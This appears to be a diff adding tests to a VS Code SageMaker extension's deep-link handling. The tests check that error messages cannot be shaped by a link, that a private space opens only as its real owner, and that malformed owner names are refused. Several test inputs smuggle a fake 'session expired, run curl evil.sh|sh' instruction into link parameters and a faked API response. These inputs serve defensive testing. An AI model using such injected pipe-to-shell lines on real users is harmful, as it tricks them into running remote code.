@@ -310,6 +310,76 @@ describe('Open Recent, Copy Link and links to an environment', () => {
       });
     }
 
+    it('a link cannot shape the message: a long or multi-line value is echoed short, quoted and on one line; an unknown key never', async () => {
+      await quietTree();
+      await emulator.resetCalls();
+      // The message the URI handler's error wrapper shows is the UserFacingError's.
+      for (const query of [
+        `kind=notebook&name=nb&region=${'u'.repeat(200_000)}`,
+        'kind=notebook&name=nb&region=us-east-1.%0A%0AYour%20AWS%20session%20has%20expired.%20Run%20curl%20evil.sh%7Csh',
+        `kind=notebook&region=us-east-1&name=nb&Your%20session%20expired.%0ARun%20curl%20evil.sh%7Csh${'x'.repeat(1000)}=1`,
+      ]) {
+        await assert.rejects(openLink(api().services, vscode.Uri.parse(`${LINK}?${query}`)), (e: Error) => {
+          assert.match(e.message, /^This SageMaker link cannot be opened: /);
+          assert.ok(e.message.length <= 400, `${e.message.length} characters`);
+          assert.doesNotMatch(e.message, /[\r\n\u2028\u2029]/);
+          assert.doesNotMatch(e.message, /Your session expired|xxxx/);
+          return true;
+        });
+      }
+      assert.deepEqual(prompter.messages, [], 'nothing asked');
+      assert.deepEqual(await emulator.calls(), {});
+    });
+
+    it('a link to a private space under another user profile asks again, naming the owner it really opens as', async () => {
+      await quietTree();
+      await emulator.resetCalls();
+      const link = `${LINK}?kind=space&region=us-east-1&domain=d-7kx2hq9mzp4a&profile=bob&space=alice-jupyterlab`;
+      // Not confirmed the second time (dismissed): the lookup only, no URL.
+      const realMessage = prompter.message.bind(prompter);
+      prompter.message = (level, text, buttons, modal) => {
+        prompter.messages.push({ level, text, buttons, modal: modal ?? false });
+        return Promise.resolve(prompter.messages.length === 1 ? 'Open' : undefined);
+      };
+      try {
+        await openLink(api().services, vscode.Uri.parse(link));
+      } finally {
+        prompter.message = realMessage;
+      }
+      assert.equal(prompter.messages.length, 2);
+      assert.match(prompter.messages[0].text, /space alice-jupyterlab of user profile bob/);
+      assert.equal(
+        prompter.messages[1].text,
+        'The space alice-jupyterlab is private to user profile alice, not bob as the link says: it would open as alice. Open it as alice?',
+      );
+      assert.deepEqual(prompter.messages[1].buttons, ['Open as alice']);
+      assert.equal(prompter.opened.length, 0);
+      assert.equal((await emulator.calls()).CreatePresignedDomainUrl, undefined, 'a URL was made');
+      // Confirmed: it opens as alice.
+      prompter.clear();
+      prompter.script({ button: 'Open' }, { button: 'Open as alice' });
+      await openLink(api().services, vscode.Uri.parse(link));
+      assert.match(await page(lastOpened()), /alice-jupyterlab/);
+      assert.equal((await emulator.grants()).at(-1)?.userProfileName, 'alice');
+    });
+
+    it('a private space whose owner, as the endpoint reports it, is no user profile name: refused in one short line, nothing opened', async () => {
+      await quietTree();
+      await emulator.setFault({ operation: 'DescribeSpace', kind: 'rewrite', set: { OwnerUserProfileName: `alice\n\nYour AWS session has expired. Run curl evil.sh|sh${'x'.repeat(5000)}` } });
+      prompter.script({ button: 'Open' });
+      await assert.rejects(
+        openLink(api().services, vscode.Uri.parse(`${LINK}?kind=space&region=us-east-1&domain=d-7kx2hq9mzp4a&profile=bob&space=alice-jupyterlab`)),
+        (e: Error) => {
+          assert.match(e.message, /^SageMaker reports an owner of the space alice-jupyterlab that is not a user profile name: UserProfileName may be at most 63 characters long; "alice\\n\\nYour/);
+          assert.ok(e.message.length <= 400, `${e.message.length} characters`);
+          assert.doesNotMatch(e.message, /\n/);
+          return true;
+        },
+      );
+      assert.equal(prompter.messages.length, 1, 'asked only the first time');
+      assert.equal(prompter.opened.length, 0);
+    });
+
     it('a link to a resource that does not exist says so after the one lookup it needs', async () => {
       await quietTree();
       await emulator.resetCalls();
